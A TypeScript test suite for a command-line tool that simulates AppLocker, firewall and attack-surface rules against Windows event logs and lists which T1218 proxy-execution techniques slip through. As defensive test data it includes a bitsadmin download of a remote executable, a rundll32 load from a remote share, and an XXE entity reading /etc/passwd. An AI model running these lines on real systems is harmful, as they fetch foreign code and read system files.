import { join } from "node:path";
import { describe, expect, it } from "vitest";
import type { Simulation } from "../../src/policies/simulation.ts";
import { whatran } from "../support/io.ts";
import { folder } from "../support/logs.ts";
import { decided, eachInItsFolder, MSHTA, NOTEPAD, RENAMED, SYSTEM32, start } from "./starts.ts";

const ADMIN = { Image: "C:\\Users\\ann\\tool.exe", IntegrityLevel: "High" };
const USERS = { Image: "C:\\Users\\ann\\game.exe" };

const APPLOCKER = `<AppLockerPolicy Version="1"><RuleCollection Type="Exe" EnforcementMode="Enabled">
<FilePathRule Id="w" Name="Windows" Description="" UserOrGroupSid="S-1-1-0" Action="Allow"><Conditions><FilePathCondition Path="%WINDIR%\\*" /></Conditions></FilePathRule>
<FilePathRule Id="a" Name="Administrators" Description="" UserOrGroupSid="S-1-5-32-544" Action="Allow"><Conditions><FilePathCondition Path="*" /></Conditions></FilePathRule>
</RuleCollection></AppLockerPolicy>`;

const { write, log } = eachInItsFolder();

describe("simulate", () => {
  it("gives one line for each event that a policy rules on", async () => {
    const policy = write("a.xml", APPLOCKER);
    const logs = log(start(NOTEPAD), start(USERS), start(ADMIN));
    const { code, out, err } = await whatran(["simulate", "--policy", policy, logs, "--format", "ndjson"]);
    expect(code).toBe(0);
    expect(decided(out)).toMatchObject([
      { source: { file: logs, index: 0 }, decision: "allow", policy: "a.xml", rule: "w" },
      { source: { file: logs, index: 1 }, decision: "block", policy: "a.xml", rule: "", reason: "no rule allows it" },
      { source: { file: logs, index: 2 }, decision: "allow", policy: "a.xml", rule: "a" },
    ]);
    expect(err).toContain("1 event blocked");
  });

  it("tells attacks that were stopped and passed from people who were", async () => {
    const policy = write("a.xml", APPLOCKER);
    const logs = log(start(MSHTA), start(RENAMED), start(USERS));
    const { out } = await whatran(["simulate", "-P", policy, logs, "--format", "json", "-q"]);
    const [result] = (JSON.parse(out) as Simulation).policies;
    expect(result?.stopped).toMatchObject([{ times: 1 }]);
    expect(result?.passed).toMatchObject([{ times: 1, why: "allowed by “Windows”" }]);
    expect(result?.broken).toMatchObject([{ what: USERS.Image, times: 1, hosts: ["pc-1"], users: ["CORP\\ann"] }]);
    expect(result?.byRule).toEqual([
      { rule: "", events: 2, undecided: 0, stopped: 1, passed: 0, broken: 1, hosts: 1, users: 1 },
      { rule: "w", title: "Windows", events: 1, undecided: 0, stopped: 0, passed: 1, broken: 0, hosts: 0, users: 0 },
    ]);
  });

  it("has a line for starts, loads, scripts, connections and files that a policy rules on", async () => {
    const event = (id: number, fields: object, source = "Microsoft-Windows-Sysmon") =>
      start({ Image: `${SYSTEM32}\\rundll32.exe`, ...fields })
        .replace('"EventID":1', `"EventID":${id}`)
        .replace("Microsoft-Windows-Sysmon", source);
    const word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    const logs = log(
      start(NOTEPAD),
      event(7, { ImageLoaded: "C:\\Users\\ann\\a.dll", Signed: "false" }),
      event(4104, { ScriptBlockText: "1", Path: "C:\\Users\\ann\\a.ps1" }, "Microsoft-Windows-PowerShell"),
      event(4104, { ScriptBlockText: "typed", Path: "" }, "Microsoft-Windows-PowerShell"),
      event(3, { DestinationIp: "203.0.113.1", DestinationPort: "443", Protocol: "tcp", Initiated: "true" }),
      event(11, { Image: word, TargetFilename: "C:\\Users\\ann\\a.exe" }),
      event(11, { TargetFilename: "C:\\Users\\ann\\a.exe" }),
    );
    const policies = folder();
    const rule = (type: string) =>
      `<RuleCollection Type="${type}" EnforcementMode="Enabled"><FilePathRule Id="${type}" Name="Windows" Description="" UserOrGroupSid="S-1-1-0" Action="Allow"><Conditions><FilePathCondition Path="%WINDIR%\\*" /></Conditions></FilePathRule></RuleCollection>`;
    policies.write(
      "applocker.xml",
      `<AppLockerPolicy Version="1">${["Exe", "Dll", "Script"].map(rule).join("")}</AppLockerPolicy>`,
    );
    policies.write(
      "firewall.ps1",
      `New-NetFirewallRule -Name 'cut' -Direction Outbound -Action Block -Program '${SYSTEM32}\\rundll32.exe'\n`,
    );
    const asr = `Add-MpPreference -AttackSurfaceReductionRules_Ids 3b576869-a4ec-4529-8536-b80a7769e899 -AttackSurfaceReductionRules_Actions Enabled\n`;
    policies.write("asr.ps1", asr);
    const { out } = await whatran(["simulate", "-P", policies.path, logs, "--format", "ndjson", "-q"]);
    expect(decided(out).map(({ source, decision, rule: by }) => [source.index, decision, by])).toEqual([
      [0, "allow", "applocker:Exe"],
      [1, "block", ""],
      // Who runs it is not logged, and AppLocker does not rule on the system account.
      [2, "undecided", ""],
      [4, "block", "firewall:cut"],
      [5, "block", "asr:3b576869-a4ec-4529-8536-b80a7769e899"],
    ]);
    policies.remove();
  });

  it("lists the ways of T1218 that pass, each with a run of the logs that proves it", async () => {
    const policy = write("a.xml", APPLOCKER);
    const rundll32 = {
      Image: `${SYSTEM32}\\rundll32.exe`,
      CommandLine: "rundll32.exe shell32.dll,Control_RunDLL desk.cpl",
    };
    const logs = log(start(MSHTA), start(rundll32), start({ ...rundll32, Image: "C:\\Users\\ann\\rundll32.exe" }));
    const { out } = await whatran(["simulate", "-P", policy, logs, "--format", "json", "-q"]);
    const holes = (JSON.parse(out) as Simulation).policies[0]?.holes ?? [];
    expect(holes[0]).toMatchObject({ binary: "mshta.exe", done: 1, why: "allowed by “Windows”", starts: 1, hosts: 1 });
    expect(holes[0]?.proof).toMatchObject({ file: logs, index: 0, host: "pc-1", commandLine: MSHTA.CommandLine });
    const scriptlets = holes.find(({ behaviour }) => behaviour === "windows/rundll32/script");
    expect(scriptlets).toMatchObject({ done: 0, starts: 1, proof: { index: 1 } });
    const text = await whatran(["simulate", "-P", policy, logs, "--format", "table", "-q"]);
    expect(text.out).toContain("T1218 behaviours that this policy lets pass");
    const [, done = "", possible = ""] = text.out.split(/^(?:Done in|Possible)/m);
    expect(done).toContain(`mshta.exe: Runs an HTML application from another machine`);
    expect(done).toContain(`record 1 (pc-1): ${MSHTA.CommandLine}`);
    expect(possible.replace(/\s+/g, " ")).toContain("Runs script text through the HTML application host (T1218.011)");
    expect(text.out).toMatch(/2 × “Windows” \(w\)/);
  });

  it("names the rule that lets people start a program, not that services are not asked", async () => {
    const policy = write("a.xml", APPLOCKER);
    const rundll32 = {
      Image: `${SYSTEM32}\\rundll32.exe`,
      CommandLine: "rundll32.exe shell32.dll,Control_RunDLL desk.cpl",
    };
    const logs = log(start({ ...rundll32, User: "NT AUTHORITY\\SYSTEM" }), start(rundll32));
    const { out } = await whatran(["simulate", "-P", policy, logs, "--format", "json", "-q"]);
    const [hole] = (JSON.parse(out) as Simulation).policies[0]?.holes ?? [];
    expect(hole).toMatchObject({ why: "allowed by “Windows”", starts: 2, proof: { index: 1 } });
  });

  it("says nothing of machines that the policy is not for", async () => {
    const policy = write("a.xml", APPLOCKER);
    const find = JSON.stringify({
      "@timestamp": "2024-05-01T10:00:00Z",
      host: { name: "lx-1", os: { type: "linux" } },
      event: { category: ["process"], type: ["start"], kind: "event" },
      process: { executable: "/usr/bin/find", args: ["find", ".", "-exec", "/tmp/x", ";"], pid: 1, entity_id: "a" },
    });
    const { out } = await whatran(["simulate", "-P", policy, log(find), "--format", "json", "-q"]);
    const [result] = (JSON.parse(out) as Simulation).policies;
    expect(result?.holes).toEqual([]);
    expect(result?.passed.map(({ why }) => why).join()).toMatch(/^(?:no policy is for linux)?$/);
  });

  it("knows product and maker of Windows’ own programs by their version resource", async () => {
    const publisher = `<FilePublisherRule Id="p" Name="Windows" Description="" UserOrGroupSid="S-1-1-0" Action="Allow"><Conditions><FilePublisherCondition PublisherName="O=MICROSOFT CORPORATION, L=REDMOND, S=WASHINGTON, C=US" ProductName="MICROSOFT® WINDOWS® OPERATING SYSTEM" BinaryName="*"><BinaryVersionRange LowSection="*" HighSection="*" /></FilePublisherCondition></Conditions></FilePublisherRule>`;
    const policy = write(
      "a.xml",
      `<AppLockerPolicy Version="1"><RuleCollection Type="Exe" EnforcementMode="Enabled">${publisher}</RuleCollection></AppLockerPolicy>`,
    );
    const Company = "Microsoft Corporation";
    const windows = { Company, Product: "Microsoft® Windows® Operating System" };
    const logs = log(
      start({ Image: `${SYSTEM32}\\taskhostw.exe`, ...windows }),
      start({ Image: `${SYSTEM32}\\other.exe`, Company, Product: "Other" }),
      start({ Image: "C:\\Windows\\Temp\\taskhostw.exe", ...windows }),
      start({ Image: `${SYSTEM32}\\taskhostw.exe` }),
    );
    const { out } = await whatran(["simulate", "-P", policy, logs, "--format", "ndjson", "-q"]);
    expect(decided(out).map(({ decision }) => decision)).toEqual(["allow", "block", "undecided", "undecided"]);
  });

  it("says of no way that it passes where its library is kept out", async () => {
    const dll = `<RuleCollection Type="Dll" EnforcementMode="Enabled"><FilePathRule Id="d" Name="Windows" Description="" UserOrGroupSid="S-1-1-0" Action="Allow"><Conditions><FilePathCondition Path="%WINDIR%\\*" /></Conditions></FilePathRule></RuleCollection></AppLockerPolicy>`;
    const policy = write("a.xml", APPLOCKER.replace("</AppLockerPolicy>", dll));
    const regsvr32 = {
      Image: `${SYSTEM32}\\regsvr32.exe`,
      CommandLine: "regsvr32.exe /s C:\\Windows\\System32\\a.dll",
    };
    const { out } = await whatran(["simulate", "-P", policy, log(start(regsvr32)), "--format", "json", "-q"]);
    const ids = ((JSON.parse(out) as Simulation).policies[0]?.holes ?? []).map(({ behaviour }) => behaviour);
    expect(ids).toContain("windows/regsvr32/scriptlet");
    expect(ids).not.toContain("windows/regsvr32/register");
  });

  it("asks the firewall about whoever fetches", async () => {
    const block = (program: string, more = "") =>
      `New-NetFirewallRule -Name 'r' -DisplayName 'r' -Direction Outbound -Action Block -Program '%SystemRoot%\\System32\\${program}'${more}\n`;
    const bits = {
      Image: `${SYSTEM32}\\bitsadmin.exe`,
      CommandLine: "bitsadmin.exe /transfer j http://8.8.4.4/a.exe C:\\Users\\ann\\a.exe",
    };
    const share = { Image: `${SYSTEM32}\\rundll32.exe`, CommandLine: "rundll32.exe \\\\8.8.4.4\\s\\a.dll,Start" };
    const of = async (text: string, fields: typeof bits) => {
      const logs = log(start(fields));
      const { out } = await whatran(["simulate", "-P", write("fw.ps1", text), logs, "--format", "ndjson", "-q"]);
      return decided(out).map(({ decision }) => decision);
    };
    expect(await of(block("bitsadmin.exe"), bits)).toEqual([]);
    expect(await of(block("svchost.exe", " -Service 'BITS'"), bits)).toEqual(["block"]);
    expect(await of(block("rundll32.exe"), share)).toEqual([]);
  });

  it("says of no way that it passes where its program may start nothing", async () => {
    const policy = write(
      "settings.xml",
      `<MitigationPolicy><AppConfig Executable="rundll32.exe"><ChildProcess DisallowChildProcessCreation="true" /></AppConfig></MitigationPolicy>`,
    );
    const rundll32 = { Image: `${SYSTEM32}\\rundll32.exe`, CommandLine: "rundll32.exe shell32.dll,Control_RunDLL" };
    const { out } = await whatran(["simulate", "-P", policy, log(start(rundll32)), "--format", "json", "-q"]);
    const ids = ((JSON.parse(out) as Simulation).policies[0]?.holes ?? []).map(({ behaviour }) => behaviour);
    expect(ids).toContain("windows/rundll32/com-object");
    expect(ids).not.toContain("windows/rundll32/shell-execute");
  });

  it("compares two policies", async () => {
    const now = write("now.xml", APPLOCKER);
    const next = write("next.xml", APPLOCKER.replace("Enabled", "AuditOnly"));
    const logs = log(start(USERS));
    const { out } = await whatran(["simulate", "-P", now, "-P", next, "--diff", logs, "--format", "table"]);
    expect(out).toContain("1 × block → audit");
    expect(out).toMatch(/first: .*log\.ndjson, record 1$/m);
    const short = await whatran(["simulate", "--diff", now, next, logs, "--format", "table"]);
    expect(short.out).toBe(out);
  });

  it.each([
    ["no policy", [], "simulate needs --policy"],
    ["a file that is none", ["-P", "log.ndjson"], "no policy of a product"],
    ["one that is not there", ["-P", "gone.xml"], "cannot be read"],
    ["a format that is not known", ["-P", "a.xml", "-t", "pdf"], "--format must be"],
    ["a log in place of a policy to compare", ["a.xml", "a.xml", "--diff"], "no policy of a product"],
    ["one policy to compare", ["-P", "a.xml", "--diff"], "--policy twice"],
  ])("refuses %s", async (_, more, message) => {
    write("a.xml", APPLOCKER);
    const logs = log(start(NOTEPAD));
    const { code, err } = await whatran(["simulate", logs, ...more], { cwd: join(logs, "..") });
    expect(code).toBe(2);
    expect(err).toContain(message);
  });

  it("refuses a policy with entities, and says where", async () => {
    const policy = write("evil.xml", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n${APPLOCKER}`);
    const { code, err, out } = await whatran(["simulate", "-P", policy, log(start(NOTEPAD))]);
    expect(code).toBe(2);
    expect(err).toContain("evil.xml: line 1, column 1: a document type");
    expect(out).toBe("");
  });
});
